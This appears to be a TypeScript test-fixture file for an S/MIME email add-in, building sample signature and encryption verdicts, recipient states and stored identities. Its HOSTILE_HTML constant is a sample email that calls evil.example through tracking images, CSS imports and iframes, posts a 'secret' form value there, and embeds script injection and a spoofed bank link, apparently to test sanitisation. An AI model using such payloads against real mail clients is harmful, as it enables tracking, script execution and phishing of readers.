import {
  asDer,
  type EncryptionVerdict,
  type Reader,
  type Reason,
  type SignatureVerdict,
  type SignerIdentity,
  type Summary,
} from '../../../shared/index';
import { type StoredIdentityView, type RecipientRow, type VerdictView } from '../../../addins/ui/props';
import { TestCa } from '../../support/test-ca';

export const NOW = new Date('2026-11-23T10:00:00Z');
const YEAR = 365 * 86_400_000;

export const NO_ENCRYPTION: EncryptionVerdict = { state: 'none', authenticated: false, recipients: [], reasons: [] };
export const OPENED: EncryptionVerdict = {
  state: 'opened',
  authenticated: false,
  contentAlgorithm: 'aes-256-cbc',
  recipients: [
    { kind: 'ktri', algorithm: 'rsa', id: '5a01@CN=Signet Demo CA' },
    { kind: 'kari', algorithm: 'ecdh-x963-sha256-aes256-wrap', id: '5a02@CN=Signet Demo CA' },
    { kind: 'ktri', algorithm: 'rsa', id: '5a77@CN=Some other CA' },
  ],
  reasons: [],
};
export const READERS: readonly Reader[] = [
  { label: 'Alice Example', address: 'alice@signet.example', isUser: true, isKnown: true },
  { label: 'Bob Example', address: 'bob@signet.example', isUser: false, isKnown: true },
  { label: '5a77@CN=Some other CA', isUser: false, isKnown: false },
];

/** A signer with a real certificate, freshly made. */
export async function makeSigner(name = 'Bob Example', address = 'bob@signet.example'): Promise<SignerIdentity> {
  const ca = await TestCa.create('Signet Demo CA', { now: NOW });
  const { certificate } = await ca.issue({ commonName: name, addresses: [address] });
  return { name, addresses: [address], issuer: 'CN=Signet Demo CA', serial: '5a4f0c11d2e3b49aa07c11e2', certificate };
}

interface Facets {
  readonly signer?: SignerIdentity;
  readonly reasons?: readonly Reason[];
  readonly encryption?: EncryptionVerdict;
  readonly from?: VerdictView['from'];
  readonly signature?: Partial<SignatureVerdict>;
}

const BOB = [{ name: 'Bob Example', address: 'bob@signet.example' }];

/** A verdict in one state, whole and consistent enough to be shown. */
export function verdict(state: Summary['state'], facets: Facets = {}): VerdictView {
  const { signer, reasons = [], encryption = NO_ENCRYPTION, from = BOB } = facets;
  const signature: SignatureVerdict = {
    layer: '0',
    isRoot: state !== 'partly-signed',
    integrity: state === 'signed-invalid' ? 'altered' : state === 'uncheckable' ? 'unverifiable' : 'intact',
    path: 'valid',
    revocation: 'not-checked',
    address: 'match',
    reasons,
    ...(signer ? { signer } : {}),
    signingTime: new Date('2026-11-22T16:45:00Z'),
    digestAlgorithm: 'sha256',
    signatureAlgorithm: 'ecdsa-p256',
    ...facets.signature,
  };
  return {
    from,
    summary: { state, encryption: encryption.state, reasons, ...(signer ? { signer } : {}) },
    signatures: state === 'unsigned' ? [] : [signature],
    encryption,
  };
}

/** A signature with its validated path: signer, issuing authority, anchor, and what is known of their revocation. */
export async function verdictWithChain(): Promise<VerdictView> {
  const root = await TestCa.create('Signet Demo Root CA', { now: NOW });
  const authority = await root.subordinate({ commonName: 'Signet Demo Issuing CA', ca: { pathLength: 0 } });
  const { certificate } = await authority.issue({ commonName: 'Bob Example', addresses: ['bob@signet.example'] });
  const signer = { ...(await makeSigner()), certificate };
  const source = {
    kind: 'crl',
    issuer: 'CN=Signet Demo Issuing CA',
    thisUpdate: new Date('2026-11-22T00:00:00Z'),
    nextUpdate: new Date('2026-11-29T00:00:00Z'),
    origin: 'message',
  } as const;
  const view = verdict('signed-valid', {
    signer,
    signature: {
      revocation: 'good',
      chain: [certificate, authority.certificate, root.certificate],
      certificateStatuses: [
        { certificate, state: 'good', source },
        { certificate: authority.certificate, state: 'not-checked' },
      ],
    },
  });
  const layers = [
    { path: '0', type: 'signed-clear', children: [{ path: '0.0', type: 'mime', children: [] }] },
  ] as const;
  return { ...view, layers, date: new Date('2026-11-22T16:45:00Z') };
}

/** One verdict for each thing a reader may meet. */
export async function everyVerdict(): Promise<Readonly<Record<string, VerdictView>>> {
  const signer = await makeSigner();
  const mallory = await makeSigner('Mallory', 'mallory@elsewhere.example');
  return {
    valid: verdict('signed-valid', { signer, reasons: [{ code: 'revocation-not-checked' }] }),
    'valid and encrypted': verdict('signed-valid', { signer, encryption: OPENED }),
    'revocation known': await verdictWithChain(),
    'unknown issuer': verdict('signed-untrusted', {
      signer,
      reasons: [{ code: 'not-anchored', found: 'Signet Demo CA' }],
    }),
    'someone else': verdict('signed-untrusted', {
      signer: mallory,
      reasons: [{ code: 'address-mismatch', found: 'mallory@elsewhere.example', expected: 'bob@signet.example' }],
    }),
    altered: verdict('signed-invalid', { signer, reasons: [{ code: 'digest-mismatch' }] }),
    part: verdict('partly-signed', { signer, reasons: [{ code: 'not-root' }] }),
    uncheckable: verdict('uncheckable', { reasons: [{ code: 'signer-certificate-missing' }] }),
    plain: verdict('unsigned'),
    'encrypted only': verdict('unsigned', { encryption: OPENED }),
    'not for us': verdict('unsigned', {
      encryption: { ...OPENED, state: 'not-for-us', reasons: [{ code: 'not-for-us' }] },
    }),
    damaged: verdict('unsigned', {
      encryption: { ...OPENED, state: 'failed', reasons: [{ code: 'decryption-failed' }] },
    }),
  };
}

export const ROWS: readonly RecipientRow[] = [
  { address: 'bob@signet.example', name: 'Bob Example', field: 'to', state: 'ready' },
  { address: 'dan@signet.example', field: 'cc', state: 'missing' },
  {
    address: 'erin@signet.example',
    name: 'Erin Example',
    field: 'bcc',
    state: 'expired',
    reasons: [{ code: 'expired', found: '2026-03-01T00:00:00Z' }],
  },
  { address: 'frank@signet.example', field: 'to', state: 'revoked', reasons: [{ code: 'revoked' }] },
  { address: 'grace@elsewhere.example', field: 'to', state: 'untrusted', reasons: [{ code: 'not-anchored' }] },
  { address: 'heidi@signet.example', field: 'to', state: 'unusable', reasons: [{ code: 'key-usage' }] },
  { address: 'ivan@signet.example', field: 'to', state: 'unconfirmed', waiting: 'cc'.repeat(32) },
  { address: 'Team', field: 'cc', state: 'list' },
  { address: 'judy@elsewhere.example', field: 'to', state: 'open' },
];

/** The list shows nothing of it. */
const NO_CERTIFICATE = asDer(new Uint8Array(0));

export const IDENTITIES: readonly StoredIdentityView[] = [
  {
    id: 'aa'.repeat(32),
    name: 'Alice Example',
    addresses: ['alice@signet.example'],
    issuer: 'Signet Demo CA',
    notBefore: new Date(NOW.getTime() - YEAR),
    notAfter: new Date(NOW.getTime() + YEAR),
    state: 'usable',
    uses: ['sign', 'encrypt'],
    keyAlgorithm: 'rsa',
    keyBits: 3072,
    certificate: NO_CERTIFICATE,
    chain: [],
  },
  {
    id: 'bb'.repeat(32),
    name: 'Alice Example',
    addresses: ['alice@old.example'],
    issuer: 'Signet Demo CA',
    notBefore: new Date(NOW.getTime() - 3 * YEAR),
    notAfter: new Date(NOW.getTime() - YEAR),
    state: 'expired',
    uses: ['encrypt'],
    keyAlgorithm: 'ec-p256',
    keyBits: 256,
    certificate: NO_CERTIFICATE,
    chain: [],
  },
];

/** A letter that tries everything to phone home. */
export const HOSTILE_HTML = `
  <style>@import url(https://evil.example/a.css); body { background: url(https://evil.example/b.png) }</style>
  <link rel="stylesheet" href="https://evil.example/c.css"><base href="https://evil.example/">
  <meta http-equiv="refresh" content="0;url=https://evil.example/d">
  <p style="color: #a00; background-image: url(https://evil.example/e.png); position: fixed; inset: 0">Dear Alice,</p>
  <img src="https://evil.example/f.png" srcset="https://evil.example/g.png 2x" onerror="alert(1)">
  <img src="//evil.example/h.png"><img src="cid:logo@signet.example" alt="logo"><img src="data:image/svg+xml,<svg/>">
  <svg><image href="https://evil.example/i.png"/><script>alert(2)</script></svg>
  <table background="https://evil.example/j.png"><tr><td background="https://evil.example/k.png">Cell</td></tr></table>
  <video poster="https://evil.example/l.png" src="https://evil.example/m.mp4"></video>
  <iframe src="https://evil.example/n"></iframe><object data="https://evil.example/o"></object>
  <form action="https://evil.example/p"><input name="q" value="secret"><button>Send</button></form>
  <a href="https://evil.example/login" ping="https://evil.example/r">https://bank.example</a>
  <a href="javascript:alert(3)">click</a> <math><mtext><img src="https://evil.example/s.png"></mtext></math>
  <div style="display: none">hidden words</div>
  <p style="font-family: 'x', url(https://evil.example/t)">Yours, Bob</p>`;

export const LETTER_HTML = `
  <p style="font-family: Calibri, sans-serif; font-size: 11pt">Dear Alice,</p>
  <p style="font-family: Calibri; font-size: 11pt">the figures for <b style="color: #1f4e79">November</b> are below. Please look at
  the <a href="https://signet.example/report">whole report</a> before Thursday.</p>
  <table border="1" cellpadding="6" style="border-collapse: collapse"><tr><th align="left">Region</th><th>Sales</th></tr>
  <tr><td>North</td><td align="right">1,204</td></tr><tr><td>South</td><td align="right">987</td></tr></table>
  <p>Kind regards<br>Bob</p><img src="https://signet.example/pixel.gif">`;
